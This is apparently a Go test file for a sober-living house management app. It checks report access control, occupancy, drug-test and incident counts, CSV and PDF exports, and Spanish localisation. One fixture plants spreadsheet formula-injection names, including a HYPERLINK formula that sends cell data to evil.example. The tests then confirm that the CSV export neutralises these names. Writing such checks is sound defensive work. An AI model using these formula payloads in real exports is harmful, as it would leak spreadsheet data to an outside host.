package hooks_test

import (
	"bytes"
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pocketbase/pocketbase/core"

	"hearth/hooks"
	tk "hearth/testkit"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden files in testdata/")

// reportWeek is Monday 2026-11-16 to Sunday 2026-11-22 in house A, asked
// at inviteNow (Monday 2026-11-23 in Los Angeles).
const reportWeek = "from=2026-11-16&to=2026-11-22"

// TestHouseReportAccess: the managers of the house, and nobody else.
func TestHouseReportAccess(t *testing.T) {
	w := tk.Seeded(t)
	url := "/api/hearth/houses/" + w.HouseA + "/report?" + reportWeek
	partner := setRecord("memberships", w.People[tk.ResidentA1].Membership, map[string]any{"partner": w.People[tk.ResidentA2].ID})
	cases := []pinnedCase{
		{name: "the house's manager", actor: tk.ManagerA, method: "GET", url: url, status: 200, content: []string{`"from":"2026-11-16"`}},
		{name: "another house's manager", actor: tk.ManagerB, method: "GET", url: url, status: 404},
		{name: "a resident", actor: tk.ResidentA1, method: "GET", url: url, status: 404},
		{name: "a resident away", actor: tk.AwayA, method: "GET", url: url, status: 404},
		{name: "a partner", actor: tk.ResidentA2, method: "GET", url: url, prepare: partner, status: 404},
		{name: "an alumnus", actor: tk.AlumnusA, method: "GET", url: url, status: 404},
		{name: "someone discharged", actor: tk.DischargedA, method: "GET", url: url, status: 404},
		{name: "a resident of another house", actor: tk.ResidentB, method: "GET", url: url, status: 404},
		{name: "anonymous", actor: tk.Anonymous, method: "GET", url: url, status: 401},
		{name: "a manager as CSV is still a manager", actor: tk.ManagerB, method: "GET", url: url + "&format=csv", status: 404},
		{name: "no period", actor: tk.ManagerA, method: "GET", url: "/api/hearth/houses/" + w.HouseA + "/report", status: 400,
			content: []string{fieldErrJSON("from", "validation_report_period")}},
		{name: "to before from", actor: tk.ManagerA, method: "GET", url: "/api/hearth/houses/" + w.HouseA + "/report?from=2026-11-22&to=2026-11-16", status: 400},
		{name: "more than a year", actor: tk.ManagerA, method: "GET", url: "/api/hearth/houses/" + w.HouseA + "/report?from=2025-01-01&to=2026-11-22", status: 400},
		{name: "an unknown format", actor: tk.ManagerA, method: "GET", url: url + "&format=xlsx", status: 400,
			content: []string{fieldErrJSON("format", "validation_report_format")}},
	}
	for _, c := range cases {
		c.run(t)
	}
}

// staffWeek adds drug tests and incidents to the seeded week (which holds
// A1's negative test of Saturday 11-21 and a minor incident naming A1 on
// Friday 11-20 at 21:30, follow-up 11-28, open): A2 tested positive on
// Wednesday, corrected to dilute (counted once, as dilute); awayA refused
// on Sunday, her away day (she lives there: counted); a critical incident
// on Thursday naming A2 and managerA (not a resident), follow-up Friday
// 11-20 and still open (overdue on 11-23); the seeded incident corrected
// to serious and closed (counted once, as the correction). A test of the
// week before and an incident of the next week are outside.
func staffWeek(t testing.TB, app core.App) {
	w := tk.Seeded(t)
	id := func(actor string) string { return w.People[actor].ID }
	at := func(s string) time.Time {
		loc, _ := time.LoadLocation("America/Los_Angeles")
		tm, err := time.ParseInLocation("2006-01-02 15:04", s, loc)
		if err != nil {
			t.Fatal(err)
		}
		return tm
	}
	test := func(user, when, result string, substances []string, corrects string) string {
		return saveOrFail(t, app, "drug_tests", map[string]any{"house": w.HouseA, "user": user, "tested_at": at(when),
			"method": "urine", "result": result, "substances": substances, "corrects": corrects}).Id
	}
	positive := test(id(tk.ResidentA2), "2026-11-18 09:00", "positive", []string{"alcohol"}, "")
	test(id(tk.ResidentA2), "2026-11-18 09:00", "dilute", []string{}, positive)
	test(id(tk.AwayA), "2026-11-22 23:30", "refused", []string{}, "")
	test(id(tk.ResidentA1), "2026-11-15 23:30", "positive", []string{"opioids"}, "")
	incident := func(when, severity, status string, people []string, followUp, corrects string) {
		saveOrFail(t, app, "incidents", map[string]any{"house": w.HouseA, "occurred_at": at(when), "kind": "other",
			"severity": severity, "status": status, "people": people, "description": "What happened.", "actions": "What was done.",
			"follow_up_by": followUp, "corrects": corrects})
	}
	incident("2026-11-19 20:00", "critical", "open", []string{id(tk.ResidentA2), id(tk.ManagerA)}, "2026-11-20 12:00:00.000Z", "")
	incident("2026-11-20 21:30", "serious", "closed", []string{id(tk.ResidentA1)}, "2026-11-28 12:00:00.000Z", w.IncidentA1)
	incident("2026-11-23 01:00", "critical", "open", []string{id(tk.ResidentA1)}, "", "")
}

// TestHouseReportFigures: the seeded week, counted by hand. Residents A1
// and A2 lived there all week (7 days); awayA was away on Sunday 11-22
// (the chore ledger of that day lists A1 and A2 only): 6 days. The
// alumnus and the discharged person moved out on 10-01 and are not in the
// week. A1 checked in on Sunday and logged an unverified meeting on
// Friday; 3 meetings a week are expected of a full week. Bed-nights 7 + 7
// + 7 (a pass keeps the bed) of 5 beds × 7 days: 60 %. Drug tests and
// incidents: the seeded ones, and with staffWeek's.
func TestHouseReportFigures(t *testing.T) {
	w := tk.Seeded(t)
	url := "/api/hearth/houses/" + w.HouseA + "/report?" + reportWeek
	id := func(actor string) string { return w.People[actor].ID }
	cases := []pinnedCase{
		{name: "the week", actor: tk.ManagerA, method: "GET", url: url, status: 200,
			content: []string{
				`"from":"2026-11-16","to":"2026-11-22","through":"2026-11-22"`,
				`{"user":"` + id(tk.ResidentA1) + `","name":"residentA1","status":"active","move_in":"","move_out":"","days":7,"checkins_done":1,"checkins_expected":7,"curfew_checkins":0,"curfew_late":0,"meetings_logged":1,"meetings_verified":0,"meetings_expected":3,`,
				`"chores_excused":0,"drug_tests":1,"drug_tests_non_negative":0,"drug_tests_positive":0,"drug_tests_dilute":0,"drug_tests_invalid":0,"drug_tests_refused":0,"drug_tests_pending":0,"incidents":1}`,
				`{"user":"` + id(tk.ResidentA2) + `","name":"residentA2","status":"active","move_in":"","move_out":"","days":7,"checkins_done":0,"checkins_expected":7,`,
				`{"user":"` + id(tk.AwayA) + `","name":"awayA","status":"away","move_in":"","move_out":"","days":6,"checkins_done":0,"checkins_expected":6,`,
				`"house":{"days":7,"capacity":5,"bed_nights":21,"occupancy":60,"move_ins":0,"move_outs":0,"support_posts":0,"support_answered":0,"first_answer_minutes_median":null,`,
				`"drug_tests":1,"drug_tests_non_negative":0,"drug_tests_positive":0,"drug_tests_dilute":0,"drug_tests_invalid":0,"drug_tests_refused":0,"drug_tests_pending":0,"incidents":1,"incidents_minor":1,"incidents_serious":0,"incidents_critical":0,"follow_ups":1,"follow_ups_closed":0,"follow_ups_overdue":0},"residents"`,
				`"weeks":[{"from":"2026-11-16","to":"2026-11-22","house":{"days":7,`,
			},
			hidden: []string{"alumnusA", "dischargedA", "managerA", "residentB", "Good talk", "Came in after curfew", "Routine."}},
		{name: "with tests, corrections and incidents", actor: tk.ManagerA, method: "GET", url: url, prepare: staffWeek, status: 200,
			content: []string{
				`"name":"residentA1",`, `"chores_excused":0,"drug_tests":1,"drug_tests_non_negative":0,"drug_tests_positive":0,"drug_tests_dilute":0,"drug_tests_invalid":0,"drug_tests_refused":0,"drug_tests_pending":0,"incidents":1},{"user":"` + id(tk.ResidentA2),
				`"chores_excused":0,"drug_tests":1,"drug_tests_non_negative":1,"drug_tests_positive":0,"drug_tests_dilute":1,"drug_tests_invalid":0,"drug_tests_refused":0,"drug_tests_pending":0,"incidents":1}],"weeks"`,
				`"name":"awayA",`, `"chores_excused":0,"drug_tests":1,"drug_tests_non_negative":1,"drug_tests_positive":0,"drug_tests_dilute":0,"drug_tests_invalid":0,"drug_tests_refused":1,"drug_tests_pending":0,"incidents":0},{"user":"` + id(tk.ResidentA1),
				`"drug_tests":3,"drug_tests_non_negative":2,"drug_tests_positive":0,"drug_tests_dilute":1,"drug_tests_invalid":0,"drug_tests_refused":1,"drug_tests_pending":0,"incidents":2,"incidents_minor":0,"incidents_serious":1,"incidents_critical":1,"follow_ups":2,"follow_ups_closed":1,"follow_ups_overdue":1},"residents"`,
			},
			hidden: []string{"managerA", "alcohol", "What happened"}},
	}
	for _, c := range cases {
		c.run(t)
	}
}

// hostileNames gives residents A1 and A2 names a spreadsheet would run.
func hostileNames(t testing.TB, app core.App) {
	w := tk.Seeded(t)
	setRecord("users", w.People[tk.ResidentA1].ID, map[string]any{"name": `=HYPERLINK("http://evil.example/?"&A1,"click")`})(t, app)
	setRecord("users", w.People[tk.ResidentA2].ID, map[string]any{"name": "@SUM(1+1)"})(t, app)
	setRecord("users", w.People[tk.AwayA].ID, map[string]any{"name": "-2+3"})(t, app)
	setRecord("houses", w.HouseA, map[string]any{"name": "\t+Cedar, \"House\""})(t, app)
}

// TestHouseReportCSV: every cell quoted, and one a spreadsheet would read
// as a formula kept as text.
func TestHouseReportCSV(t *testing.T) {
	w := tk.Seeded(t)
	url := "/api/hearth/houses/" + w.HouseA + "/report?" + reportWeek + "&format=csv"
	c := pinnedCase{name: "hostile names", actor: tk.ManagerA, method: "GET", url: url, prepare: hostileNames, status: 200,
		content: []string{
			"\"house\",\"'\t+Cedar, \"\"House\"\"\"",
			`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")","active","","","7","1","7","0","0","1","0","3","0","0","0","0"`,
			`"'@SUM(1+1)","active"`,
			`"'-2+3","away"`,
			`"bed_nights","21"`,
			`"occupancy_percent","60.0"`,
			`"chores_excused","drug_tests","drug_tests_non_negative","drug_tests_positive","drug_tests_dilute","drug_tests_invalid","drug_tests_refused","drug_tests_pending","incidents"` + "\r\n",
			`"0","0","0","0","1","0","0","0","0","0","0","1"` + "\r\n", // A1: a negative test, an incident
			`"drug_tests","1"`, `"incidents","1"`, `"incidents_minor","1"`, `"follow_ups","1"`, `"follow_ups_overdue","0"`,
		},
		hidden: []string{`"=`, `"@`, `"+`, "\"\t", `"-`},
		check: func(t testing.TB, app core.App, body []byte) {
			if !bytes.HasSuffix(body, []byte("\r\n")) {
				t.Errorf("the CSV does not end its rows with CRLF")
			}
		},
	}
	c.run(t)
}

// pdfText is the text pdftotext (poppler-utils) finds in a PDF. Without
// pdftotext the test is skipped, except in CI, where it fails.
func pdfText(t testing.TB, pdf []byte) string {
	t.Helper()
	bin, err := exec.LookPath("pdftotext")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("pdftotext is missing: .ci/run installs poppler-utils")
		}
		t.Skip("pdftotext (poppler-utils) is not installed")
	}
	path := filepath.Join(t.TempDir(), "report.pdf")
	if err := os.WriteFile(path, pdf, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(bin, "-layout", "-enc", "UTF-8", path, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	return string(out)
}

// checkGolden compares got with testdata/name, or rewrites it with -update.
func checkGolden(t testing.TB, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *updateGolden {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to write it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (%d bytes, want %d); if the change is meant, run the test with -update and look at the PDF", name, len(got), len(want))
	}
}

// TestHouseReportPDF: a page per section with its heading, the house, the
// period and when it was made, Spanish names printed as they are, the
// safety page's drug tests and incidents, the words and dates of the
// reader's language, and the same bytes for the same data and clock (the
// golden files).
func TestHouseReportPDF(t *testing.T) {
	w := tk.Seeded(t)
	url := "/api/hearth/houses/" + w.HouseA + "/report?" + reportWeek + "&format=pdf"
	spanish := func(t testing.TB, app core.App) {
		setRecord("users", w.People[tk.ResidentA1].ID, map[string]any{"name": "Íñigo Muñoz Peña"})(t, app)
		setRecord("houses", w.HouseA, map[string]any{"name": "Casa del Año Nuevo"})(t, app)
		staffWeek(t, app)
	}
	inSpanish := func(t testing.TB, app core.App) {
		spanish(t, app)
		setRecord("users", w.People[tk.ManagerA].ID, map[string]any{"language": "es"})(t, app)
	}
	for _, tc := range []struct {
		name, golden  string
		prepare       func(t testing.TB, app core.App)
		want, notWant []string
	}{
		{name: "english", golden: "house_report.golden.pdf", prepare: spanish,
			want: []string{
				"House report", "Casa del Año Nuevo", "2026-11-16 to 2026-11-22", "Made: 2026-11-23 10:30 PST",
				"Occupancy", "Resident engagement", "Accountability", "Safety",
				"Íñigo Muñoz Peña", "60.0 %", "Bed-nights", "page 4",
				"Drug tests", "Not negative", "Not taken (refused)", "Incidents", "Critical",
				"Still open after their follow-up day", "Tests",
			},
			notWant: []string{"Informe", "Seguridad"}},
		{name: "spanish", golden: "house_report_es.golden.pdf", prepare: inSpanish,
			want: []string{
				"Informe de la casa", "Casa: Casa del Año Nuevo", "Periodo: del 16 de noviembre de 2026 al 22 de noviembre de 2026",
				"Hecho: 23 de noviembre de 2026, 10:30 PST por Hearth",
				"Ocupación", "Participación de los residentes", "Responsabilidad", "Seguridad",
				"Íñigo Muñoz Peña", "60.0 %", "Noches-cama", "Días aquí", "vive aquí", "fuera con permiso", "página 4",
				"Pruebas de drogas", "No negativas", "No realizadas (rechazadas)", "Incidentes", "Críticos",
				"Aún abiertos después de su día de seguimiento",
			},
			notWant: []string{"House report", "Safety", "Occupancy", " to 2026", "page "}},
	} {
		var first []byte
		for run := range 2 {
			c := pinnedCase{name: tc.name, actor: tk.ManagerA, method: "GET", url: url, prepare: tc.prepare, status: 200,
				content: []string{"%PDF-"},
				check: func(t testing.TB, app core.App, body []byte) {
					if run == 0 {
						first = body
						return
					}
					if !bytes.Equal(first, body) {
						t.Errorf("two PDFs of the same data differ")
					}
					checkGolden(t, tc.golden, body)
					text := pdfText(t, body)
					for _, want := range tc.want {
						if !strings.Contains(text, want) {
							t.Errorf("the PDF's text lacks %q:\n%s", want, text)
						}
					}
					if pages := strings.Count(text, "\f"); pages != 4 {
						t.Errorf("%d pages, want 4 (one per section)", pages)
					}
					for _, hidden := range append(tc.notWant, "alumnusA", "Good talk", "alcohol", "What happened", "managerA") {
						if strings.Contains(text, hidden) {
							t.Errorf("the PDF shows %q", hidden)
						}
					}
				}}
			c.run(t)
		}
	}
}

// TestProgressLetter: a person's own letter, in a house they live or
// lived in, and never anyone else's.
func TestProgressLetter(t *testing.T) {
	w := tk.Seeded(t)
	url := func(house, format string) string {
		return "/api/hearth/me/report?house=" + house + "&from=2026-09-01&to=2026-11-22&format=" + format
	}
	verified := setRecord("meetings", w.MeetingA1, map[string]any{"verified_by": w.People[tk.ManagerA].ID, "verified_at": "2026-11-21 10:00:00.000Z"})
	cases := []pinnedCase{
		{name: "a resident's CSV", actor: tk.ResidentA1, method: "GET", url: url(w.HouseA, "csv"), prepare: verified, status: 200,
			content: []string{`"name","residentA1"`, `"house","Cedar House"`, `"checkins_done","1"`, `"meetings_logged","1"`,
				`"meetings_verified","1"`, `"2026-11-20","aa","Tuesday Night Big Book","verified"`},
			hidden: []string{"residentA2", "awayA", "Good talk"}},
		{name: "an alumnus, after moving out", actor: tk.AlumnusA, method: "GET", url: url(w.HouseA, "csv"), status: 200,
			content: []string{`"name","alumnusA"`, `"move_out","2026-10-01"`, `"days_in_house","30"`},
			hidden:  []string{"residentA1", "Tuesday Night"}},
		{name: "someone discharged", actor: tk.DischargedA, method: "GET", url: url(w.HouseA, "csv"), status: 200,
			content: []string{`"name","dischargedA"`, `"move_out","2026-10-01"`}, hidden: []string{"private reason"}},
		{name: "a house they never lived in", actor: tk.ResidentB, method: "GET", url: url(w.HouseA, "csv"), status: 404},
		{name: "a house that does not exist", actor: tk.ResidentA1, method: "GET", url: url("nosuchhouse0000", "pdf"), status: 404},
		{name: "a user parameter is not read", actor: tk.ResidentA2, method: "GET", url: url(w.HouseA, "csv") + "&user=" + w.People[tk.ResidentA1].ID, status: 200,
			content: []string{`"name","residentA2"`}, hidden: []string{"residentA1", "Tuesday Night"}},
		{name: "no JSON", actor: tk.ResidentA1, method: "GET", url: url(w.HouseA, "json"), status: 400},
		{name: "anonymous", actor: tk.Anonymous, method: "GET", url: url(w.HouseA, "pdf"), status: 401},
		{name: "the PDF", actor: tk.ResidentA1, method: "GET", url: url(w.HouseA, "pdf"), prepare: verified, status: 200,
			content: []string{"%PDF-"},
			check: func(t testing.TB, app core.App, body []byte) {
				text := pdfText(t, body)
				for _, want := range []string{"Attendance and progress: residentA1", "Cedar House", "2026-09-01 to 2026-11-22",
					"Stay", "Meetings", "Tuesday Night Big Book", "verified", "1 of"} {
					if !strings.Contains(text, want) {
						t.Errorf("the letter lacks %q:\n%s", want, text)
					}
				}
			}},
		{name: "the PDF in Spanish", actor: tk.ResidentA1, method: "GET", url: url(w.HouseA, "pdf"), status: 200,
			prepare: func(t testing.TB, app core.App) {
				verified(t, app)
				setRecord("users", w.People[tk.ResidentA1].ID, map[string]any{"language": "es"})(t, app)
			},
			content: []string{"%PDF-"},
			check: func(t testing.TB, app core.App, body []byte) {
				text := pdfText(t, body)
				for _, want := range []string{"Asistencia y progreso: residentA1", "Casa: Cedar House",
					"Periodo: del 1 de septiembre de 2026 al 22 de noviembre de 2026", "Hecho: 23 de noviembre de 2026",
					"Estancia", "Reuniones", "Tuesday Night Big Book", "20/11/2026", "verificada", "1 de", "página 2"} {
					if !strings.Contains(text, want) {
						t.Errorf("the letter lacks %q:\n%s", want, text)
					}
				}
				for _, hidden := range []string{"Attendance", "Stay in the house", "2026-11-20", "page "} {
					if strings.Contains(text, hidden) {
						t.Errorf("the Spanish letter shows %q:\n%s", hidden, text)
					}
				}
			}},
	}
	for _, c := range cases {
		c.run(t)
	}
}

// TestReportWords: every word of the report's PDFs exists in every
// language.
func TestReportWords(t *testing.T) {
	keys := hooks.ReportWordKeys()
	if len(keys) < 2 {
		t.Fatalf("languages %v, want en and es", keys)
	}
	for lang, ks := range keys {
		for other, oks := range keys {
			for _, k := range ks {
				if !slices.Contains(oks, k) {
					t.Errorf("%q is in %s but not in %s", k, lang, other)
				}
			}
		}
	}
}
